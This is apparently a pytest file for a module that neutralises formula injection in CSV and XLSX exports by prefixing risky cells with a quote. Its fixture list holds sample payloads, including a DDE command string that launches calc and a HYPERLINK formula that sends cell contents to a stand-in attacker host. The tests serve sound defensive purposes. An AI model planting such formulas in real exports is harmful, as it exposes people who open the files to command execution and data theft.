"""CSV/XLSX exports never hand a spreadsheet a formula to run."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from analysis import export_safety as es

PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")', "＝1+1", "-2+3", "@me"]
SAFE = ["hello", "a=b", "size 6 - fits", "1+1", "", "-12.5", "+44", "42", "'already quoted"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_payloads_are_neutralised(value):
    assert es.is_dangerous(value)
    assert es.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", SAFE + [None, 5, -3.2, float("nan")])
def test_ordinary_values_are_untouched(value):
    assert not es.is_dangerous(value)
    out = es.neutralise(value)
    assert out is value or out == value


def frame() -> pd.DataFrame:
    return pd.DataFrame({
        "text": PAYLOADS + SAFE[:2],
        "amount": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0, 11.0, 12.0, -13.0],
        "=evil_header": ["x"] * 13,
    })


def test_csv_export_neutralises_cells_and_headers_but_not_numbers():
    text = es.to_csv(frame())
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["text", "amount", "'=evil_header"]
    for row, payload in zip(rows[1:len(PAYLOADS) + 1], PAYLOADS, strict=True):
        assert row[0] == "'" + payload
    assert rows[1][1] == "-1.5" and rows[13][1] == "-13.0"  # numeric column keeps its sign, no quote
    assert rows[12][0] == "hello" and rows[13][0] == "a=b"
    # nothing in any cell starts with a trigger any more
    assert not any(es.is_dangerous(c) for r in rows for c in r)


def test_input_frame_is_not_modified():
    df = frame()
    es.to_csv(df)
    assert df["text"][0] == "=1+1" and "=evil_header" in df.columns


def test_xlsx_export_has_no_formula_cells(tmp_path):
    df = frame()
    df.loc[0, "amount"] = None
    df.loc[12, "text"] = "nul\x00inside \x1b esc"
    path = tmp_path / "out.xlsx"
    es.to_xlsx(df, path, sheet_name="=sheet")
    wb = load_workbook(path)
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert ws.cell(1, 3).value == "'=evil_header"
    assert ws.cell(2, 1).value == "'=1+1" and ws.cell(2, 1).data_type == "s"
    assert ws.cell(2, 2).value is None and ws.cell(3, 2).value == 2.0
    assert ws.cell(14, 1).value == "nul\ufffdinside \ufffd esc"
    assert ws.title == "'=sheet"


def test_string_dtype_columns_are_handled():
    df = pd.DataFrame({"t": pd.array(["=1", None, "ok"], dtype="string")})
    out = es.safe_frame(df)
    assert out["t"][0] == "'=1" and pd.isna(out["t"][1]) and out["t"][2] == "ok"
